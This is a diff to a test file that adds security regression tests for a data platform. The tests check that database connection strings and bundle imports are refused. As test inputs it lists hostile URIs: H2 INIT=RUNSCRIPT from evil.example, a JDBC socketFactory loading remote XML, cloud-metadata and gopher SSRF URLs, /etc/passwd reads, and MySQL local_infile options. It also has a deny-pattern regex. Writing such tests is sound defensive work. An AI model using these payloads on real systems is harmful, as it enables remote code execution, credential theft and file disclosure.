@@ -1,6 +1,6 @@
 import { env } from "cloudflare:workers";
 import { strToU8, zipSync } from "fflate";
-import { beforeAll, describe, expect, it } from "vitest";
+import { beforeAll, describe, expect, it, vi } from "vitest";
 import type { DatabaseModel } from "../../schema/database/model";
 import { connectTo } from "../../workers/connections";
 import { engineOf } from "../../workers/engines/registry";
@@ -52,6 +52,7 @@ describe("an address that no connection may be made to", () => {
   it.each([
     "sqlite:////etc/passwd", "sqlite://", "SQLITE:///x.db", "sqlite+pysqlite:///x.db", "sqlite+pysqlcipher://:x@/x.db", "sqlite+aiosqlite:///x.db", "shillelagh:///", "shillelagh+safe://", "shillelagh+apsw://", "gsheets://", "duckdb:////x.db",
     "postgresql+nosuchdriver://u:p@examples.internal/x", "postgresql+psycopg2cffi://u:p@examples.internal/x", "foodb://u:p@examples.internal/x", "mssql+pyodbc://u:p@examples.internal/x", "oracle://u:p@examples.internal/x",
+    "h2+jdbc://examples.internal/x?INIT=RUNSCRIPT", "hive://examples.internal/x", "file:///etc/passwd", "http://169.254.169.254/latest",
   ])("is refused at every door: %s", async (uri) => {
     for (const [door, open] of doors(uri)) {
       const { status, body } = await open();
@@ -59,6 +60,16 @@ describe("an address that no connection may be made to", () => {
       expect(status, door).toBeLessThan(500);
       expect(JSON.stringify(body), door).toMatch(/cannot be used as a data source for security reasons|Could not load database driver for/);
     }
+  });
+
+  it.each([
+    "h2:mem:x", "jdbc:h2:mem:x;INIT=CREATE TRIGGER x", "jdbc:h2:zip:/x!/y;TRACE_LEVEL_SYSTEM_OUT=1", "h2:tcp://examples.internal/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "jdbc:postgresql://examples.internal/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml", "mysql+pymysql+sqlite:///x",
+  ])("CVE-2026-59826, CVE-2026-59827, CVE-2026-103928: of Java's drivers, or of two at once, is none of ours: %s", async (uri) => {
+    for (const [door, open] of doors(uri)) {
+      const { status, body } = await open();
+      expect([status >= 400 && status < 500, /security reasons|Could not load database driver for|connection parameters are not allowed|Invalid connection string/.test(JSON.stringify(body))], `${door}: ${JSON.stringify(body).slice(0, 300)}`).toEqual([true, true]);
+    }
+    for (const engine of ["h2", "java", "jdbc", "../h2"]) expect((await validate(admin, { host: "examples.internal", port: 1, database: uri, username: "u", password: "p" }, engine)).status, engine).toBeGreaterThanOrEqual(400);
   });
 
   it.each(["options=-csearch_path%3Dx", "service=x", "passfile=/etc/passwd", "sslkey=/etc/passwd", "sslcert=/x", "sslrootcert=/x", "host=/var/run/postgresql", "hostaddr=10.0.0.1", "sslmode=require&options=x", "replication=database"])("is refused at every door for its parameters: %s", async (query) => {
@@ -71,9 +82,45 @@ describe("an address that no connection may be made to", () => {
     expect((await validate(admin, { host: "examples.internal", port: 5432, database: "postgres", username: "postgres", password: "x", query: Object.fromEntries(new URLSearchParams(query)) })).status).toBe(400);
   });
 
+  it.each(["local_infile=1", "LOCAL_INFILE=1", "allowLoadLocalInfile=true", "allow_local_infile=1", "init_command=set%20global%20x%3D1", "read_default_file=/etc/passwd", "unix_socket=/x", "autoDeserialize=true", "ssl_ca=/etc/passwd", "sql_mode=x&local_infile=0"])("CVE-2024-34693: is refused at every door for what MySQL's drivers would read or run by it: %s", async (query) => {
+    for (const driver of ["mysql", "mysql+mysqldb", "mysql+pymysql", "mariadb"]) {
+      for (const [door, open] of doors(`${driver}://u:p@examples.internal:3306/x?${query}`)) {
+        const { status, body } = await open();
+        expect([status >= 400 && status < 500, /These connection parameters are not allowed|Could not load database driver for|cannot be used as a data source for security reasons/.test(JSON.stringify(body))], `${driver} ${door}: ${JSON.stringify(body).slice(0, 300)}`).toEqual([true, true]);
+      }
+    }
+  });
+
   it("takes parameters that only say how", async () => {
     expect((await test(admin, `${GOOD}?sslmode=disable&application_name=x&connect_timeout=5&channel_binding=prefer`)).body).toEqual({ message: "OK" });
   });
+});
+
+it("CVE-2023-25504: rows that a bundle says to fetch are fetched by nobody", async () => {
+  const HOSTILE = /169\.254|evil|^gopher|^file:|^data:/;
+  const fetched: string[] = [];
+  const asked = globalThis.fetch.bind(globalThis);
+  vi.spyOn(globalThis, "fetch").mockImplementation((input, init) => {
+    fetched.push(input instanceof Request ? input.url : String(input));
+    return HOSTILE.test(fetched.at(-1)!) ? Promise.reject(new Error("nobody asks there")) : asked(input, init);
+  });
+  try {
+    for (const data of ["http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "https://evil.example/rows.csv", "gopher://127.0.0.1:6379/_x", "data:text/csv,a%0A1"]) {
+      const uuid = crypto.randomUUID();
+      const files = {
+        "bundle/metadata.yaml": "version: 1.0.0\ntype: SqlaTable\ntimestamp: '2024-01-01T00:00:00+00:00'\n",
+        "bundle/databases/x.yaml": `database_name: ${uniqueName("imported")}\nsqlalchemy_uri: ${GOOD}\nextra: {}\nuuid: ${uuid}\nversion: 1.0.0\n`,
+        "bundle/datasets/x/t.yaml": `table_name: ${uniqueName("t").replaceAll(" ", "_")}\ndata: ${JSON.stringify(data)}\nsql: select 1 as a\nschema: public\ncolumns: [{column_name: a, type: INTEGER}]\nmetrics: []\nuuid: ${crypto.randomUUID()}\ndatabase_uuid: ${uuid}\nversion: 1.0.0\n`,
+      };
+      const form = new FormData();
+      form.set("formData", new Blob([zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])))]), "dataset.zip");
+      form.set("passwords", JSON.stringify({ "databases/x.yaml": "local" }));
+      expect((await admin.call("POST", "/api/v1/dataset/import/", form)).status, data).toBeLessThan(500);
+    }
+    expect(fetched.filter((url) => HOSTILE.test(url))).toEqual([]);
+  } finally {
+    vi.restoreAllMocks();
+  }
 });
 
 describe("why a connection failed", () => {
